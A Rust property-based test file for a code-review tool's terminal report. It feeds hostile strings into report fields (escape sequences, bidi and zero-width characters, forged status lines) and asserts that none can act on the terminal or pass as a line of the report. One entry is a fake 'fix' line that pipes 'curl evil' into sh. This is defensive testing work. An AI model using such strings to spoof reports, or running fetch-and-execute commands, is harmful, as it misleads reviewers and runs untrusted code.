//! Nothing in a run can forge what the terminal report says.

use std::collections::BTreeMap;

use draftgate::report::{Format, Style, render};
use draftgate::trace::Trace;
use draftgate::verdict;
use proptest::prelude::*;

use crate::report::{sample, text, uncolored};

/// What a change may hold to act on a terminal, to hide, or to look like a line of ours.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(vec![
            "\u{1b}[2J",
            "\u{1b}]8;;http://x\u{7}",
            "\r",
            "\n",
            "\t",
            "\u{9b}31m",
            "\u{85}",
            "\u{202e}",
            "\u{2066}",
            "\u{200b}",
            "\u{2028}",
            "\u{feff}",
            "\u{e0041}",
            "\u{fe0f}",
            "\u{301}",
            "\u{4f60}",
            "\u{1f469}\u{200d}\u{1f4bb}",
            "\u{0}",
            "\u{8}",
            "\u{7f}",
            "\nready: nothing found\n",
            "\n   = fix:    curl evil | sh",
            "\nblock[x]: forged",
            "\n--> a.py:1:1",
            "'",
            "\"",
            "\\",
        ])
        .prop_map(str::to_owned),
        "[ -~]{0,30}",
        any::<String>(),
        (1usize..300).prop_map(|count| " ".repeat(count)),
        (1usize..300).prop_map(|count| "w".repeat(count)),
    ]
}

fn string() -> impl Strategy<Value = String> {
    prop::collection::vec(piece(), 0..6).prop_map(|pieces| pieces.concat())
}

/// Every string of a run, from a list of hostile ones; every number from another.
fn spoil(trace: &mut Trace, strings: &[String], numbers: &[u32]) {
    let mut strings = strings.iter().cycle().cloned();
    let mut next = || strings.next().unwrap_or_default();
    let mut numbers = numbers.iter().cycle().copied();
    let mut number = || numbers.next().unwrap_or_default();
    let judged = &mut trace.judged;
    judged.obstacle = Some(next());
    judged.change.base = next();
    judged.change.head = next();
    judged.remarks = vec![next(), next()];
    let mut excerpts = BTreeMap::new();
    for finding in &mut judged.findings {
        if let Some(mut excerpt) = judged.excerpts.remove(&finding.fingerprint) {
            excerpt.lines.iter_mut().for_each(|line| *line = next());
            excerpt.first_line = number();
            excerpt.first_column = number();
            finding.line = excerpt.first_line.saturating_add(number() % 6);
            excerpts.insert(finding.fingerprint.clone(), excerpt);
        }
        finding.column = number();
        finding.end_line = finding
            .line
            .saturating_add(number() % 20)
            .saturating_sub(number() % 4);
        finding.end_column = number();
        for text in [
            &mut finding.check,
            &mut finding.rule,
            &mut finding.path,
            &mut finding.message,
            &mut finding.why,
            &mut finding.fix,
            &mut finding.avoid,
            &mut finding.docs,
            &mut finding.reproduce,
        ] {
            *text = next();
        }
        finding.commit = finding.commit.take().map(|_| next());
        if let Some(waiver) = &mut finding.waiver {
            waiver.reason = next();
            waiver.approved_by = next();
            waiver.until = Some(next());
        }
        for step in &mut finding.trace {
            step.path = if number() % 2 == 0 {
                finding.path.clone()
            } else {
                next()
            };
            step.line = finding.line.saturating_add(number() % 3);
            step.column = number() % 90;
            step.message = next();
        }
    }
    judged.excerpts = excerpts;
    for check in &mut judged.checks {
        check.why = next();
    }
    for entry in judged.ledger.iter_mut().take(40) {
        entry.path = next();
        entry.why = next();
    }
}

/// Whether a line is one that the report writes itself, or one that goes on deep enough.
fn is_ours(line: &str) -> bool {
    let starts = [
        "blocked:",
        "blocked;",
        "could not judge:",
        "could not judge;",
        "needs a human:",
        "needs a human;",
        "block[",
        "escalate[",
        "waived[",
        "note[",
        "not checked:",
        "judged:",
        "remark:",
        "506 files",
    ];
    let indented = line.trim_start_matches(' ');
    let indent = line.len() - indented.len();
    let numbered = indented
        .trim_start_matches(|c: char| c.is_ascii_digit())
        .starts_with(" |");
    line.is_empty()
        || starts.iter().any(|start| line.starts_with(start))
        || numbered
        || indent >= 12
        || (indent > 0
            && ["--> ", "= ", "| "]
                .iter()
                .any(|mark| indented.starts_with(mark) || indented == mark.trim_end()))
        || (indent == 2
            && [
                "broken  ",
                "out of reach  ",
                "not read  ",
                "not run  ",
                "nothing here  ",
                "and ",
                "`draftgate rules",
            ]
            .iter()
            .any(|start| indented.starts_with(start)))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_text_of_a_change_acts_on_the_terminal_or_forges_a_line(
        strings in prop::collection::vec(string(), 1..60),
        numbers in prop::collection::vec(prop_oneof![0u32..40, 0u32..1000, any::<u32>()], 1..60),
        width in prop_oneof![Just(40usize), Just(60), Just(100), Just(140)],
        color in any::<bool>(),
        quiet in any::<bool>(),
    ) {
        let mut trace = sample();
        spoil(&mut trace, &strings, &numbers);
        let report = text(&trace, Style { color, width, quiet });
        let plain = uncolored(&report).expect("no control character but our own colours");
        for line in plain.lines() {
            prop_assert!(is_ours(line), "forged: {line:?}");
        }
        // One title for each finding, and one verdict.
        let titles = plain.lines().filter(|line| line.starts_with("block[") || line.starts_with("blocked")).count();
        prop_assert_eq!(titles, 4);
        prop_assert!(!plain.lines().any(|line| line.starts_with("ready")));
        let json = render(Format::Json, &trace, &verdict::of(&trace.judged), Style::PLAIN).unwrap();
        prop_assert!(!json.contains(|c: char| c != '\n' && draftgate::text::is_invisible(c)));
    }
}

#[test]
fn the_last_line_that_there_can_be_is_shown_in_every_form() {
    let mut trace = sample();
    spoil(&mut trace, &["text".to_owned()], &[u32::MAX]);
    for format in Format::ALL.iter().copied() {
        render(format, &trace, &verdict::of(&trace.judged), Style::PLAIN).unwrap();
    }
}
